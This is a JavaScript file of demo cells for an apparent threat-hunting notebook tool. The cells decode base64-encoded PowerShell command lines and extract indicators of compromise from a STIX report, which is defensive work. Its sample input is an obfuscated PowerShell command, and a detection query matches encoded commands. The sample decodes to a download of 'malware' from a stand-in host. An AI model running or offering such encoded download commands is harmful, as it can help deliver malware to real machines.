// Tour cells: decoding base64-obfuscated command lines and extracting IoCs from a threat report.
// Every text from the data goes into the page through textContent or the Rust-escaped HTML of DataFrame.toElement.

import { el, labelled } from "./cells.js";

const TOUR_COMMAND =
  "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl";

function wrapped(pre) {
  pre.style.whiteSpace = "pre-wrap";
  pre.style.wordBreak = "break-all";
  return pre;
}

function list(items, className) {
  const ul = el("ul", className);
  for (const i of items) ul.append(el("li", "", i));
  return ul;
}

/** The text of an XML document, one text node a line (what a report's reader sees; attributes are left out). */
function xmlText(xml) {
  const doc = new DOMParser().parseFromString(xml, "application/xml");
  const bad = doc.querySelector("parsererror");
  if (bad) throw new Error(`the report is not well-formed XML: ${bad.textContent}`);
  const walker = doc.createTreeWalker(doc.documentElement, NodeFilter.SHOW_TEXT);
  const parts = [];
  for (let n = walker.nextNode(); n; n = walker.nextNode()) parts.push(n.nodeValue);
  return parts.join("\n");
}

export function analysisCells({ cell, state, huntbook }) {
  return [
    cell("decode", "Decode an obfuscated command line", `
const { text, table } = huntbook.unpack(
  "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl");
text                                   // the command with the decoded text in a <decoded> tag
table.select(["reference", "decoded_string", "encoding_type", "md5", "input_bytes"])`, async () => {
      const { text, table } = huntbook.unpack(TOUR_COMMAND);
      const out = el("div");
      out.append(
        labelled("Decoded", wrapped(el("pre", "decoded", table.row(0).decoded_string))),
        labelled("Rewritten command line", wrapped(el("pre", "unpacked-text", text))),
        labelled("Fragments", table.select(["reference", "decoded_string", "encoding_type", "md5", "input_bytes"]).toElement()),
      );
      return out;
    }),
    cell("unpack-table", "Decode every encoded PowerShell command in SecurityEvent (in a Web Worker)", `
const worker = await huntbook.worker();    // huntbook in a Web Worker: the heavy work below never freezes this page
// the query runs here (demo data, or Sentinel with your token, which stays on this page); its table is read in the worker
const procs = await qp.execQuery(\`SecurityEvent
  | where EventID == 4688 and (CommandLine contains "-enc" or CommandLine contains "FromBase64String")
  | project TimeGenerated, Computer, Account, CommandLine\`, { worker });
const decoded = await worker.unpackTable(procs, "CommandLine");     // one row per decoded fragment
await worker.extractIocsTable(decoded, ["decoded_string"], { ioc_types: ["url", "dns", "ipv4"] })`, async () => {
      const worker = (state.worker ??= await huntbook.worker());
      const procs = await state.qp.execQuery(`SecurityEvent
  | where EventID == 4688 and (CommandLine contains "-enc" or CommandLine contains "FromBase64String")
  | project TimeGenerated, Computer, Account, CommandLine`, { worker });
      const decoded = await worker.unpackTable(procs, "CommandLine");
      state.decoded = decoded;
      const iocs = await worker.extractIocsTable(decoded, ["decoded_string"], { ioc_types: ["url", "dns", "ipv4"] });
      const out = el("div");
      out.append(
        el("p", "summary", `${procs.numRows} command lines with base64, ${decoded.numRows} decoded fragments`),
        labelled("Decoded fragments", await (await decoded.select(["src_index", "encoding_type", "decoded_string"])).toElement({ maxRows: 30 })),
        labelled("IoCs in the decoded commands", await (await iocs.select(["IoCType", "Observable", "SourceIndex"])).toElement({ maxRows: 30 })),
      );
      return out;
    }),
    cell("iocs", "Extract the IoCs of a threat report (STIX XML, defanged and plain)", `
const xml = await (await fetch("/site/data/threat-report.xml")).text();
const text = xmlText(xml);                      // the report's text nodes, one a line
huntbook.extractIocs(text, { ioc_types: ["url"] }).url   // refanged, each once, in order of appearance
huntbook.extractIocsTable(text, { include_paths: false })`, async () => {
      const res = await fetch("/site/data/threat-report.xml");
      if (!res.ok) throw new Error(`could not load the report: HTTP ${res.status}`);
      const text = xmlText(await res.text());
      const urls = huntbook.extractIocs(text, { ioc_types: ["url"] }).url ?? [];
      const table = huntbook.extractIocsTable(text, { include_paths: false });
      const counts = table.valueCounts("IoCType").toRows().map((r) => `${r.IoCType}: ${r.count}`).join(", ");
      const out = el("div");
      out.append(
        labelled(`URLs (${urls.length})`, list(urls, "urls")),
        el("p", "summary", `${table.numRows} indicators: ${counts}`),
        labelled("All indicators", table.select(["IoCType", "Observable", "Refanged"]).toElement({ maxRows: 50 })),
      );
      return out;
    }),
  ];
}
